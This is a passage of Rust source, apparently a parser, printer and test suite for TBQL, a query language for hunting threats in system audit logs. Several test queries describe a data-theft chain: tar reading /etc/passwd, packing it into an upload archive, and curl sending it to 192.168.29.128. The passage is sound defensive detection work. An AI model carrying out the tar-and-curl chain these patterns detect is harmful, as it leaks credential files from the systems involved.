    r#"proc p["%/bin/tar%"] read file f["%/etc/passwd%"] as e1 return p, f"#,
    r#"proc p["%/bin/tar%"] read file f1["%/etc/passwd%"] as e1
       proc p write file f2["%/tmp/upload.tar%"] as e2
       with e1 before e2
       return distinct p, f1, f2"#,
    r#"proc p1["%tar%"] write file f["%upload%"] as e1
       proc p2["%curl%"] read file f as e2
       proc p2 connect ip i as e3
       with e1 before e2, e2 before e3
       return distinct p1, p2, f, i"#,
    // The scheduler's showcase: syntactically the two patterns tie (two
    // constraint atoms each), but `read || write` over unfiltered files
    // matches a large slice of the store while the IOC'd `connect` matches
    // almost nothing — the cost-based order runs the connect first and
    // prunes the big pattern through the propagated `IN` sets.
    r#"proc p read || write file f as e1
       proc p connect ip i["%192.168.29.128%"] as e2
       return distinct p, f, i"#,
    r#"proc p["%curl%"] connect ip i["%192.168.29.128%"] as e1 return p, i"#,
    r#"proc p1 write file f["%upload%"] as e1
       proc p2 read file f as e2
       with p1.user = p2.user
       return distinct p1, p2, f"#,
    r#"proc p["%/bin/tar%"] read file f as e1 return distinct p, f, e1.optype"#,
    r#"proc p write file f["%upload%"] as e1 return distinct f, e1.amount"#,
];

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn figure2_query_parses() {
        let q = parse_tbql(FIG2_QUERY).unwrap();
        assert_eq!(q.patterns.len(), 8);
        assert_eq!(q.relations.len(), 7);
        assert!(q.ret.distinct);
        assert_eq!(q.ret.items.len(), 9);
        // Entity reuse: p1 appears in two patterns, filtered once.
        assert_eq!(q.patterns[0].subject.id, "p1");
        assert_eq!(q.patterns[1].subject.id, "p1");
        assert!(q.patterns[0].subject.filter.is_some());
        assert!(q.patterns[1].subject.filter.is_none());
        // evt8 is a connect to ip.
        assert_eq!(q.patterns[7].object.ty, EntityType::Ip);
    }

    #[test]
    fn op_expressions() {
        let q = parse_tbql(
            r#"proc p[pid = 1 && exename = "%chrome.exe%"] read || write file f return f"#,
        )
        .unwrap();
        match &q.patterns[0].op {
            PatternOp::Event(OpExpr::Or(a, b)) => {
                assert_eq!(**a, OpExpr::Op("read".into()));
                assert_eq!(**b, OpExpr::Op("write".into()));
            }
            other => panic!("{other:?}"),
        }
        let q = parse_tbql("proc p !read && !write file f return f").unwrap();
        assert!(matches!(&q.patterns[0].op, PatternOp::Event(OpExpr::And(_, _))));
    }

    #[test]
    fn path_patterns_all_forms() {
        let cases: [(&str, Option<u32>, Option<u32>, bool); 6] = [
            ("proc p ~>[read] file f return f", None, None, true),
            ("proc p ~>(2~4)[read] file f return f", Some(2), Some(4), true),
            ("proc p ~>(2~)[read] file f return f", Some(2), None, true),
            ("proc p ~>(~4)[read] file f return f", None, Some(4), true),
            ("proc p ~> file f return f", None, None, false),
            ("proc p ->[read] file f return f", None, None, true),
        ];
        for (text, want_min, want_max, has_op) in cases {
            let q = parse_tbql(text).unwrap();
            match &q.patterns[0].op {
                PatternOp::Path { min, max, op, .. } => {
                    assert_eq!(*min, want_min, "{text}");
                    assert_eq!(*max, want_max, "{text}");
                    assert_eq!(op.is_some(), has_op, "{text}");
                }
                other => panic!("{text}: {other:?}"),
            }
        }
        // Arrow type distinguishes execution backend.
        let q = parse_tbql("proc p ->[read] file f return f").unwrap();
        assert!(matches!(&q.patterns[0].op, PatternOp::Path { arrow: Arrow::Single, .. }));
    }

    #[test]
    fn windows() {
        let q = parse_tbql(
            r#"proc p read file f from "2018-04-06 15:00:00" to "2018-04-06 16:00:00" return f"#,
        )
        .unwrap();
        assert!(matches!(q.patterns[0].window, Some(Window::FromTo(_, _))));
        let q = parse_tbql("proc p read file f last 2 h return f").unwrap();
        assert!(matches!(q.patterns[0].window, Some(Window::Last { n: 2, .. })));
        let q = parse_tbql(r#"last 1 day proc p read file f return f"#).unwrap();
        assert_eq!(q.global_filters.len(), 1);
    }

    #[test]
    fn temporal_with_range() {
        let q = parse_tbql("proc p read file f as e1 proc p write file g as e2 with e1 before[0-5 min] e2 return f").unwrap();
        match &q.relations[0] {
            RelClause::Temporal { left, op, range, right } => {
                assert_eq!(left, "e1");
                assert_eq!(*op, TemporalOp::Before);
                assert_eq!(range, &Some((0, 5, "min".to_string())));
                assert_eq!(right, "e2");
            }
            other => panic!("{other:?}"),
        }
    }

    #[test]
    fn attribute_relationship() {
        let q =
            parse_tbql("proc p1 read file f proc p2 write file g with p1.pid = p2.pid return f")
                .unwrap();
        assert!(matches!(&q.relations[0], RelClause::Attr { .. }));
    }

    #[test]
    fn in_set_filter() {
        let q = parse_tbql(
            r#"proc p[exename in ("%a%", "%b%")] read file f[name not in ("%c%")] return f"#,
        )
        .unwrap();
        let pf = q.patterns[0].subject.filter.as_ref().unwrap();
        assert!(matches!(pf, AttrExpr::InSet { negated: false, .. }));
        let ff = q.patterns[0].object.filter.as_ref().unwrap();
        assert!(matches!(ff, AttrExpr::InSet { negated: true, .. }));
    }

    #[test]
    fn event_filter_after_as() {
        let q = parse_tbql("proc p read file f as e1[amount > 1024] return f").unwrap();
        assert!(q.patterns[0].event_filter.is_some());
    }

    #[test]
    fn errors() {
        assert!(parse_tbql("return f").is_err(), "no patterns");
        assert!(parse_tbql("proc p read file f").is_err(), "no return");
        assert!(parse_tbql("proc p read return f").is_err(), "missing object");
        assert!(parse_tbql("widget w read file f return f").is_err());
    }
}
