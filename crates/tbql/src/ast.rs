//! TBQL abstract syntax (mirrors Grammar 1).

use raptor_common::time::Timestamp;

/// Entity types: `file`, `proc`, `ip`.
#[derive(Clone, Copy, PartialEq, Eq, Hash, Debug)]
pub enum EntityType {
    File,
    Proc,
    Ip,
}

impl EntityType {
    pub fn keyword(self) -> &'static str {
        match self {
            EntityType::File => "file",
            EntityType::Proc => "proc",
            EntityType::Ip => "ip",
        }
    }

    /// Default attribute for the syntactic sugar (paper Section III-D).
    pub fn default_attribute(self) -> &'static str {
        match self {
            EntityType::File => "name",
            EntityType::Proc => "exename",
            EntityType::Ip => "dstip",
        }
    }
}

/// A literal value in filters.
#[derive(Clone, PartialEq, Debug)]
pub enum Value {
    Int(i64),
    Str(String),
}

/// Comparison operators (`⟨bop⟩`).
#[derive(Clone, Copy, PartialEq, Eq, Debug)]
pub enum CmpOp {
    Eq,
    Ne,
    Lt,
    Le,
    Gt,
    Ge,
}

impl CmpOp {
    pub fn as_str(self) -> &'static str {
        match self {
            CmpOp::Eq => "=",
            CmpOp::Ne => "!=",
            CmpOp::Lt => "<",
            CmpOp::Le => "<=",
            CmpOp::Gt => ">",
            CmpOp::Ge => ">=",
        }
    }
}

/// `id` or `id.attr` (the `⟨attr⟩` rule).
#[derive(Clone, PartialEq, Eq, Hash, Debug)]
pub struct AttrRef {
    pub base: String,
    pub attr: Option<String>,
}

impl std::fmt::Display for AttrRef {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        match &self.attr {
            Some(a) => write!(f, "{}.{}", self.base, a),
            None => f.write_str(&self.base),
        }
    }
}

/// Attribute filter expressions (`⟨attr_exp⟩`).
#[derive(Clone, PartialEq, Debug)]
pub enum AttrExpr {
    /// `attr bop val`
    Cmp {
        attr: AttrRef,
        op: CmpOp,
        value: Value,
    },
    /// `'!'? val` — default-attribute sugar.
    Bare {
        negated: bool,
        value: Value,
    },
    /// `attr ['not'] 'in' (v, ...)`
    InSet {
        attr: AttrRef,
        negated: bool,
        set: Vec<Value>,
    },
    And(Box<AttrExpr>, Box<AttrExpr>),
    Or(Box<AttrExpr>, Box<AttrExpr>),
}

/// Operation expressions (`⟨op_exp⟩`): `read`, `!read`, `read || write`, ...
#[derive(Clone, PartialEq, Debug)]
pub enum OpExpr {
    Op(String),
    Not(Box<OpExpr>),
    And(Box<OpExpr>, Box<OpExpr>),
    Or(Box<OpExpr>, Box<OpExpr>),
}

impl OpExpr {
    /// All operation names mentioned.
    pub fn op_names(&self) -> Vec<&str> {
        match self {
            OpExpr::Op(s) => vec![s.as_str()],
            OpExpr::Not(e) => e.op_names(),
            OpExpr::And(a, b) | OpExpr::Or(a, b) => {
                let mut v = a.op_names();
                v.extend(b.op_names());
                v
            }
        }
    }
}

/// An entity declaration (`⟨entity⟩`).
#[derive(Clone, PartialEq, Debug)]
pub struct EntityDecl {
    pub ty: EntityType,
    pub id: String,
    pub filter: Option<AttrExpr>,
}

/// `->` (length-1, Neo4j-executed) vs `~>` (variable-length).
#[derive(Clone, Copy, PartialEq, Eq, Debug)]
pub enum Arrow {
    /// `->`: exactly one hop.
    Single,
    /// `~>`: variable length.
    Fuzzy,
}

/// The operation half of a pattern: event (`⟨op_exp⟩`) or path (`⟨op_path⟩`).
#[derive(Clone, PartialEq, Debug)]
pub enum PatternOp {
    Event(OpExpr),
    Path {
        arrow: Arrow,
        /// `(m~n)` bounds; `None` bounds are open.
        min: Option<u32>,
        max: Option<u32>,
        /// Final-hop operation constraint (`[read]`).
        op: Option<OpExpr>,
    },
}

/// Time windows (`⟨wind⟩`).
#[derive(Clone, PartialEq, Debug)]
pub enum Window {
    FromTo(Timestamp, Timestamp),
    At(Timestamp),
    Before(Timestamp),
    After(Timestamp),
    Last { n: i64, unit: String },
}

/// One TBQL pattern (`⟨patt⟩`).
#[derive(Clone, PartialEq, Debug)]
pub struct Pattern {
    pub subject: EntityDecl,
    pub op: PatternOp,
    pub object: EntityDecl,
    /// `as evtN`
    pub id: Option<String>,
    /// Event-level filter after the id: `as evt1[amount > 100]`.
    pub event_filter: Option<AttrExpr>,
    pub window: Option<Window>,
}

impl Pattern {
    pub fn is_path(&self) -> bool {
        matches!(self.op, PatternOp::Path { .. })
    }
}

/// Temporal operators in the `with` clause.
#[derive(Clone, Copy, PartialEq, Eq, Debug)]
pub enum TemporalOp {
    Before,
    After,
    Within,
}

impl TemporalOp {
    pub fn as_str(self) -> &'static str {
        match self {
            TemporalOp::Before => "before",
            TemporalOp::After => "after",
            TemporalOp::Within => "within",
        }
    }
}

/// `with` clause items (`⟨rel⟩`).
#[derive(Clone, PartialEq, Debug)]
pub enum RelClause {
    /// `with evt1 before[0-5 min] evt2`
    Temporal {
        left: String,
        op: TemporalOp,
        /// Optional `[lo-hi unit]` bound on the gap.
        range: Option<(i64, i64, String)>,
        right: String,
    },
    /// `with p1.pid = p2.pid`
    Attr { left: AttrRef, op: CmpOp, right: AttrRef },
}

/// Global filters (`⟨global_filter⟩`).
#[derive(Clone, PartialEq, Debug)]
pub enum GlobalFilter {
    Attr(AttrExpr),
    Window(Window),
}

/// The `return` clause.
#[derive(Clone, PartialEq, Debug)]
pub struct ReturnClause {
    pub distinct: bool,
    pub items: Vec<AttrRef>,
}

/// A complete TBQL query.
#[derive(Clone, PartialEq, Debug)]
pub struct Query {
    pub global_filters: Vec<GlobalFilter>,
    pub patterns: Vec<Pattern>,
    pub relations: Vec<RelClause>,
    pub ret: ReturnClause,
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn op_expr_names() {
        let e = OpExpr::Or(
            Box::new(OpExpr::Op("read".into())),
            Box::new(OpExpr::Not(Box::new(OpExpr::Op("write".into())))),
        );
        assert_eq!(e.op_names(), vec!["read", "write"]);
    }

    #[test]
    fn defaults_match_paper() {
        assert_eq!(EntityType::File.default_attribute(), "name");
        assert_eq!(EntityType::Proc.default_attribute(), "exename");
        assert_eq!(EntityType::Ip.default_attribute(), "dstip");
    }

    #[test]
    fn attr_ref_display() {
        let a = AttrRef { base: "p1".into(), attr: Some("pid".into()) };
        assert_eq!(a.to_string(), "p1.pid");
        let b = AttrRef { base: "p1".into(), attr: None };
        assert_eq!(b.to_string(), "p1");
    }
}
