//! TBQL lexer.
//!
//! Notable tokens: `~>` and `->` (path arrows), `&&`/`||`, `!`, `~` (length
//! range separator), double-quoted strings (with `%` wildcards inside), and
//! identifiers/keywords (keywords are case-sensitive lowercase, like the
//! paper's examples).

use raptor_common::error::{Error, Result};

#[derive(Clone, PartialEq, Debug)]
pub struct Token {
    pub kind: TokenKind,
    pub offset: usize,
}

#[derive(Clone, PartialEq, Debug)]
pub enum TokenKind {
    Word(String),
    Int(i64),
    Str(String),
    Symbol(&'static str),
    Eof,
}

impl TokenKind {
    pub fn describe(&self) -> String {
        match self {
            TokenKind::Word(w) => format!("`{w}`"),
            TokenKind::Int(i) => format!("integer {i}"),
            TokenKind::Str(_) => "string literal".to_string(),
            TokenKind::Symbol(s) => format!("`{s}`"),
            TokenKind::Eof => "end of input".to_string(),
        }
    }
}

pub fn lex(input: &str) -> Result<Vec<Token>> {
    let bytes = input.as_bytes();
    let mut i = 0usize;
    let mut out = Vec::new();
    while i < bytes.len() {
        let c = bytes[i] as char;
        if c.is_ascii_whitespace() {
            i += 1;
            continue;
        }
        let start = i;
        if c.is_ascii_alphabetic() || c == '_' {
            let mut j = i + 1;
            while j < bytes.len() {
                let d = bytes[j] as char;
                if d.is_ascii_alphanumeric() || d == '_' {
                    j += 1;
                } else {
                    break;
                }
            }
            out.push(Token { kind: TokenKind::Word(input[i..j].to_string()), offset: start });
            i = j;
        } else if c.is_ascii_digit() {
            let mut j = i + 1;
            while j < bytes.len() && (bytes[j] as char).is_ascii_digit() {
                j += 1;
            }
            let n: i64 = input[i..j]
                .parse()
                .map_err(|_| Error::syntax("integer literal out of range", start))?;
            out.push(Token { kind: TokenKind::Int(n), offset: start });
            i = j;
        } else if c == '"' {
            let mut s = String::new();
            let mut j = i + 1;
            loop {
                if j >= bytes.len() {
                    return Err(Error::syntax("unterminated string literal", start));
                }
                if bytes[j] == b'"' {
                    j += 1;
                    break;
                }
                // Backslash escapes only `"` and `\`; any other backslash is
                // literal (Windows-path IOCs are full of them).
                if bytes[j] == b'\\'
                    && j + 1 < bytes.len()
                    && (bytes[j + 1] == b'"' || bytes[j + 1] == b'\\')
                {
                    s.push(bytes[j + 1] as char);
                    j += 2;
                    continue;
                }
                let ch_len = match bytes[j] {
                    0x00..=0x7f => 1,
                    0xc0..=0xdf => 2,
                    0xe0..=0xef => 3,
                    _ => 4,
                };
                s.push_str(&input[j..j + ch_len]);
                j += ch_len;
            }
            out.push(Token { kind: TokenKind::Str(s), offset: start });
            i = j;
        } else {
            let two: Option<&'static str> = if i + 1 < bytes.len() {
                match &input[i..i + 2] {
                    "~>" => Some("~>"),
                    "->" => Some("->"),
                    "&&" => Some("&&"),
                    "||" => Some("||"),
                    "<=" => Some("<="),
                    ">=" => Some(">="),
                    "!=" => Some("!="),
                    _ => None,
                }
            } else {
                None
            };
            if let Some(sym) = two {
                out.push(Token { kind: TokenKind::Symbol(sym), offset: start });
                i += 2;
                continue;
            }
            let one: &'static str = match c {
                '[' => "[",
                ']' => "]",
                '(' => "(",
                ')' => ")",
                ',' => ",",
                '.' => ".",
                '!' => "!",
                '~' => "~",
                '-' => "-",
                '=' => "=",
                '<' => "<",
                '>' => ">",
                _ => return Err(Error::syntax(format!("unexpected character `{c}`"), start)),
            };
            out.push(Token { kind: TokenKind::Symbol(one), offset: start });
            i += 1;
        }
    }
    out.push(Token { kind: TokenKind::Eof, offset: input.len() });
    Ok(out)
}

#[cfg(test)]
mod tests {
    use super::*;

    fn kinds(s: &str) -> Vec<TokenKind> {
        lex(s).unwrap().into_iter().map(|t| t.kind).collect()
    }

    #[test]
    fn event_pattern_tokens() {
        let ks = kinds(r#"proc p1["%/bin/tar%"] read file f1["%/etc/passwd%"] as evt1"#);
        assert_eq!(ks[0], TokenKind::Word("proc".into()));
        assert_eq!(ks[1], TokenKind::Word("p1".into()));
        assert_eq!(ks[2], TokenKind::Symbol("["));
        assert_eq!(ks[3], TokenKind::Str("%/bin/tar%".into()));
        assert!(ks.contains(&TokenKind::Word("as".into())));
    }

    #[test]
    fn path_arrows_and_ranges() {
        let ks = kinds("proc p ~>(2~4)[read] file f");
        assert!(ks.contains(&TokenKind::Symbol("~>")));
        assert!(ks.contains(&TokenKind::Symbol("~")));
        assert!(ks.contains(&TokenKind::Int(2)));
        let ks = kinds("proc p ->[open] file f");
        assert!(ks.contains(&TokenKind::Symbol("->")));
    }

    #[test]
    fn logical_operators() {
        let ks = kinds(r#"proc p[pid = 1 && exename != "%x%"] read || write file f"#);
        assert!(ks.contains(&TokenKind::Symbol("&&")));
        assert!(ks.contains(&TokenKind::Symbol("||")));
        assert!(ks.contains(&TokenKind::Symbol("!=")));
    }

    #[test]
    fn temporal_range() {
        let ks = kinds("with evt1 before[0-5 min] evt2");
        assert!(ks.contains(&TokenKind::Symbol("-")));
        assert!(ks.contains(&TokenKind::Word("min".into())));
    }

    #[test]
    fn string_escapes() {
        assert_eq!(kinds(r#""a\"b""#)[0], TokenKind::Str("a\"b".into()));
    }

    #[test]
    fn errors() {
        assert!(lex("proc p {").is_err());
        assert!(lex(r#""unterminated"#).is_err());
    }
}
