//! Conciseness metrics (Table X).
//!
//! The paper compares query languages by counting characters (excluding
//! whitespace and comments) and words. These helpers apply to any query
//! text — TBQL, SQL or Cypher — so one implementation scores all four
//! variants.

/// Characters excluding whitespace and comments (`--`, `//` to end of line).
pub fn char_count(query: &str) -> usize {
    strip_comments(query).chars().filter(|c| !c.is_whitespace()).count()
}

/// Whitespace-separated words (after comment stripping).
pub fn word_count(query: &str) -> usize {
    strip_comments(query).split_whitespace().count()
}

fn strip_comments(query: &str) -> String {
    let mut out = String::with_capacity(query.len());
    for line in query.lines() {
        let cut = line.find("--").or_else(|| line.find("//")).unwrap_or(line.len());
        out.push_str(&line[..cut]);
        out.push('\n');
    }
    out
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn counts_ignore_whitespace() {
        assert_eq!(char_count("a b  c\n d"), 4);
        assert_eq!(word_count("a b  c\n d"), 4);
    }

    #[test]
    fn comments_ignored() {
        let q = "SELECT x -- the column\nFROM t // table";
        assert_eq!(word_count(q), 4);
        assert_eq!(char_count(q), "SELECTxFROMt".len());
    }

    #[test]
    fn tbql_shorter_than_sql_on_figure2_style_query() {
        let tbql = r#"proc p1["%/bin/tar%"] read file f1["%/etc/passwd%"] as evt1
return distinct p1, f1"#;
        let sql = "SELECT DISTINCT p1.exename, f1.name \
                   FROM processes p1, events evt1, files f1 \
                   WHERE evt1.subject = p1.id AND evt1.object = f1.id \
                   AND evt1.optype = 'read' AND p1.exename LIKE '%/bin/tar%' \
                   AND f1.name LIKE '%/etc/passwd%'";
        assert!(char_count(tbql) < char_count(sql));
        assert!(word_count(tbql) < word_count(sql));
    }

    #[test]
    fn empty() {
        assert_eq!(char_count(""), 0);
        assert_eq!(word_count(""), 0);
    }
}
