//! Query rendering (round-trip printer).
//!
//! Prints a [`Query`] back to TBQL text. `parse(print(q)) == q` — the
//! property tests in the workspace rely on it, and query synthesis uses it
//! to materialize synthesized queries.

use std::fmt::Write as _;

use raptor_common::time::Timestamp;

use crate::ast::*;

fn write_value(out: &mut String, v: &Value) {
    match v {
        Value::Int(i) => {
            let _ = write!(out, "{i}");
        }
        Value::Str(s) => {
            let _ = write!(out, "\"{}\"", s.replace('\\', "\\\\").replace('"', "\\\""));
        }
    }
}

fn write_attr_expr(out: &mut String, e: &AttrExpr) {
    match e {
        AttrExpr::Bare { negated, value } => {
            if *negated {
                out.push('!');
            }
            write_value(out, value);
        }
        AttrExpr::Cmp { attr, op, value } => {
            let _ = write!(out, "{attr} {} ", op.as_str());
            write_value(out, value);
        }
        AttrExpr::InSet { attr, negated, set } => {
            let _ = write!(out, "{attr} {}in (", if *negated { "not " } else { "" });
            for (i, v) in set.iter().enumerate() {
                if i > 0 {
                    out.push_str(", ");
                }
                write_value(out, v);
            }
            out.push(')');
        }
        AttrExpr::And(a, b) => {
            write_attr_operand(out, a);
            out.push_str(" && ");
            write_attr_operand(out, b);
        }
        AttrExpr::Or(a, b) => {
            write_attr_operand(out, a);
            out.push_str(" || ");
            write_attr_operand(out, b);
        }
    }
}

/// Operands of &&/|| that are themselves compound get parenthesized, keeping
/// the printer's output unambiguous regardless of the original nesting.
fn write_attr_operand(out: &mut String, e: &AttrExpr) {
    if matches!(e, AttrExpr::And(_, _) | AttrExpr::Or(_, _)) {
        out.push('(');
        write_attr_expr(out, e);
        out.push(')');
    } else {
        write_attr_expr(out, e);
    }
}

fn write_op_expr(out: &mut String, e: &OpExpr) {
    match e {
        OpExpr::Op(s) => out.push_str(s),
        OpExpr::Not(inner) => {
            out.push('!');
            write_op_operand(out, inner);
        }
        OpExpr::And(a, b) => {
            write_op_operand(out, a);
            out.push_str(" && ");
            write_op_operand(out, b);
        }
        OpExpr::Or(a, b) => {
            write_op_operand(out, a);
            out.push_str(" || ");
            write_op_operand(out, b);
        }
    }
}

fn write_op_operand(out: &mut String, e: &OpExpr) {
    if matches!(e, OpExpr::And(_, _) | OpExpr::Or(_, _)) {
        out.push('(');
        write_op_expr(out, e);
        out.push(')');
    } else {
        write_op_expr(out, e);
    }
}

fn write_entity(out: &mut String, e: &EntityDecl) {
    let _ = write!(out, "{} {}", e.ty.keyword(), e.id);
    if let Some(f) = &e.filter {
        out.push('[');
        write_attr_expr(out, f);
        out.push(']');
    }
}

fn write_datetime(out: &mut String, t: Timestamp) {
    let _ = write!(out, "\"{t}\"");
}

fn write_window(out: &mut String, w: &Window) {
    match w {
        Window::FromTo(a, b) => {
            out.push_str("from ");
            write_datetime(out, *a);
            out.push_str(" to ");
            write_datetime(out, *b);
        }
        Window::At(t) => {
            out.push_str("at ");
            write_datetime(out, *t);
        }
        Window::Before(t) => {
            out.push_str("before ");
            write_datetime(out, *t);
        }
        Window::After(t) => {
            out.push_str("after ");
            write_datetime(out, *t);
        }
        Window::Last { n, unit } => {
            let _ = write!(out, "last {n} {unit}");
        }
    }
}

fn write_pattern(out: &mut String, p: &Pattern) {
    write_entity(out, &p.subject);
    out.push(' ');
    match &p.op {
        PatternOp::Event(e) => write_op_expr(out, e),
        PatternOp::Path { arrow, min, max, op } => {
            out.push_str(match arrow {
                Arrow::Fuzzy => "~>",
                Arrow::Single => "->",
            });
            if min.is_some() || max.is_some() {
                out.push('(');
                if let Some(m) = min {
                    let _ = write!(out, "{m}");
                }
                if min != max {
                    out.push('~');
                    if let Some(m) = max {
                        let _ = write!(out, "{m}");
                    }
                }
                out.push(')');
            }
            if let Some(e) = op {
                out.push('[');
                write_op_expr(out, e);
                out.push(']');
            }
        }
    }
    out.push(' ');
    write_entity(out, &p.object);
    if let Some(id) = &p.id {
        let _ = write!(out, " as {id}");
        if let Some(f) = &p.event_filter {
            out.push('[');
            write_attr_expr(out, f);
            out.push(']');
        }
    }
    if let Some(w) = &p.window {
        out.push(' ');
        write_window(out, w);
    }
}

/// Renders a query as TBQL text (one pattern per line).
pub fn print_query(q: &Query) -> String {
    let mut out = String::new();
    for g in &q.global_filters {
        match g {
            GlobalFilter::Window(w) => write_window(&mut out, w),
            GlobalFilter::Attr(a) => write_attr_expr(&mut out, a),
        }
        out.push('\n');
    }
    for p in &q.patterns {
        write_pattern(&mut out, p);
        out.push('\n');
    }
    if !q.relations.is_empty() {
        out.push_str("with ");
        for (i, r) in q.relations.iter().enumerate() {
            if i > 0 {
                out.push_str(", ");
            }
            match r {
                RelClause::Temporal { left, op, range, right } => {
                    let _ = write!(out, "{left} {}", op.as_str());
                    if let Some((lo, hi, unit)) = range {
                        let _ = write!(out, "[{lo}-{hi} {unit}]");
                    }
                    let _ = write!(out, " {right}");
                }
                RelClause::Attr { left, op, right } => {
                    let _ = write!(out, "{left} {} {right}", op.as_str());
                }
            }
        }
        out.push('\n');
    }
    out.push_str("return ");
    if q.ret.distinct {
        out.push_str("distinct ");
    }
    for (i, item) in q.ret.items.iter().enumerate() {
        if i > 0 {
            out.push_str(", ");
        }
        let _ = write!(out, "{item}");
    }
    out
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::parser::{parse_tbql, FIG2_QUERY};

    #[test]
    fn figure2_roundtrip() {
        let q = parse_tbql(FIG2_QUERY).unwrap();
        let printed = print_query(&q);
        let q2 = parse_tbql(&printed).unwrap();
        assert_eq!(q, q2, "printed:\n{printed}");
    }

    #[test]
    fn path_and_window_roundtrip() {
        let text = r#"proc p["%x%"] ~>(2~4)[read || write] file f as e1 last 2 h
return distinct p, f.path"#;
        let q = parse_tbql(text).unwrap();
        let q2 = parse_tbql(&print_query(&q)).unwrap();
        assert_eq!(q, q2);
    }

    #[test]
    fn nested_expressions_roundtrip() {
        let text = r#"proc p[(pid = 1 && user = "root") || exename != "%x%"] !read && !write file f[name in ("%a%", "%b%")] as e[amount > 10]
return f"#;
        let q = parse_tbql(text).unwrap();
        let q2 = parse_tbql(&print_query(&q)).unwrap();
        assert_eq!(q, q2);
    }

    #[test]
    fn datetime_window_roundtrip() {
        let text =
            r#"proc p read file f from "2018-04-06 15:00:00" to "2018-04-07 00:00:00" return f"#;
        let q = parse_tbql(text).unwrap();
        let q2 = parse_tbql(&print_query(&q)).unwrap();
        assert_eq!(q, q2);
    }

    #[test]
    fn temporal_range_roundtrip() {
        let text = "proc p read file f as e1 proc p write file g as e2 with e1 before[0-5 min] e2, p.pid = p.pid return f";
        let q = parse_tbql(text).unwrap();
        let q2 = parse_tbql(&print_query(&q)).unwrap();
        assert_eq!(q, q2);
    }
}
