//! Timestamps, durations and datetime parsing.
//!
//! Audit events carry nanosecond timestamps ([`Timestamp`]); TBQL time
//! windows (`from ... to ...`, `last 2 h`, `before[0-5 min]`) need datetime
//! literals and unit-suffixed durations. Everything is a thin wrapper over
//! `i64` nanoseconds since the Unix epoch so arithmetic stays branch-free.

use std::fmt;

/// Nanoseconds since the Unix epoch.
#[derive(Clone, Copy, PartialEq, Eq, PartialOrd, Ord, Hash, Default)]
pub struct Timestamp(pub i64);

/// A signed span of time in nanoseconds.
#[derive(Clone, Copy, PartialEq, Eq, PartialOrd, Ord, Hash, Default)]
pub struct Duration(pub i64);

pub const NANOS_PER_SEC: i64 = 1_000_000_000;

impl Timestamp {
    pub const MIN: Timestamp = Timestamp(i64::MIN);
    pub const MAX: Timestamp = Timestamp(i64::MAX);

    #[inline]
    pub fn from_secs(s: i64) -> Self {
        Timestamp(s * NANOS_PER_SEC)
    }

    #[inline]
    pub fn from_millis(ms: i64) -> Self {
        Timestamp(ms * 1_000_000)
    }

    #[inline]
    pub fn as_secs_f64(self) -> f64 {
        self.0 as f64 / NANOS_PER_SEC as f64
    }

    /// Elapsed time from `earlier` to `self`.
    #[inline]
    pub fn since(self, earlier: Timestamp) -> Duration {
        Duration(self.0 - earlier.0)
    }

    #[inline]
    pub fn plus(self, d: Duration) -> Timestamp {
        Timestamp(self.0.saturating_add(d.0))
    }

    #[inline]
    pub fn minus(self, d: Duration) -> Timestamp {
        Timestamp(self.0.saturating_sub(d.0))
    }
}

impl Duration {
    pub const ZERO: Duration = Duration(0);

    #[inline]
    pub fn from_secs(s: i64) -> Self {
        Duration(s * NANOS_PER_SEC)
    }

    #[inline]
    pub fn from_millis(ms: i64) -> Self {
        Duration(ms * 1_000_000)
    }

    /// Builds a duration from a number and a TBQL time unit
    /// (`sec`/`s`, `min`/`m`, `hour`/`h`, `day`/`d`).
    pub fn from_unit(n: i64, unit: &str) -> Option<Duration> {
        let per = match unit {
            "ns" => 1,
            "us" => 1_000,
            "ms" => 1_000_000,
            "s" | "sec" | "second" | "seconds" => NANOS_PER_SEC,
            "m" | "min" | "minute" | "minutes" => 60 * NANOS_PER_SEC,
            "h" | "hour" | "hours" => 3_600 * NANOS_PER_SEC,
            "d" | "day" | "days" => 86_400 * NANOS_PER_SEC,
            _ => return None,
        };
        Some(Duration(n.checked_mul(per)?))
    }

    #[inline]
    pub fn as_secs_f64(self) -> f64 {
        self.0 as f64 / NANOS_PER_SEC as f64
    }
}

impl fmt::Debug for Timestamp {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        write!(f, "Timestamp({})", self.0)
    }
}

impl fmt::Display for Timestamp {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        let (date, ns_in_day) = civil_from_nanos(self.0);
        let secs = ns_in_day / NANOS_PER_SEC;
        write!(
            f,
            "{:04}-{:02}-{:02} {:02}:{:02}:{:02}",
            date.0,
            date.1,
            date.2,
            secs / 3600,
            (secs / 60) % 60,
            secs % 60
        )
    }
}

impl fmt::Debug for Duration {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        write!(f, "Duration({}ns)", self.0)
    }
}

/// Days from civil date (proleptic Gregorian), Howard Hinnant's algorithm.
fn days_from_civil(y: i64, m: i64, d: i64) -> i64 {
    let y = if m <= 2 { y - 1 } else { y };
    let era = if y >= 0 { y } else { y - 399 } / 400;
    let yoe = y - era * 400; // [0, 399]
    let mp = (m + 9) % 12; // Mar=0 .. Feb=11
    let doy = (153 * mp + 2) / 5 + d - 1; // [0, 365]
    let doe = yoe * 365 + yoe / 4 - yoe / 100 + doy; // [0, 146096]
    era * 146_097 + doe - 719_468
}

/// Inverse of [`days_from_civil`]: nanos → ((y, m, d), nanos within day).
fn civil_from_nanos(nanos: i64) -> ((i64, i64, i64), i64) {
    let day_ns = 86_400 * NANOS_PER_SEC;
    let days = nanos.div_euclid(day_ns);
    let within = nanos.rem_euclid(day_ns);
    let z = days + 719_468;
    let era = if z >= 0 { z } else { z - 146_096 } / 146_097;
    let doe = z - era * 146_097;
    let yoe = (doe - doe / 1460 + doe / 36_524 - doe / 146_096) / 365;
    let y = yoe + era * 400;
    let doy = doe - (365 * yoe + yoe / 4 - yoe / 100);
    let mp = (5 * doy + 2) / 153;
    let d = doy - (153 * mp + 2) / 5 + 1;
    let m = if mp < 10 { mp + 3 } else { mp - 9 };
    let y = if m <= 2 { y + 1 } else { y };
    ((y, m, d), within)
}

/// Parses a TBQL datetime literal.
///
/// Accepted forms: `YYYY-MM-DD`, `YYYY-MM-DD HH:MM:SS`,
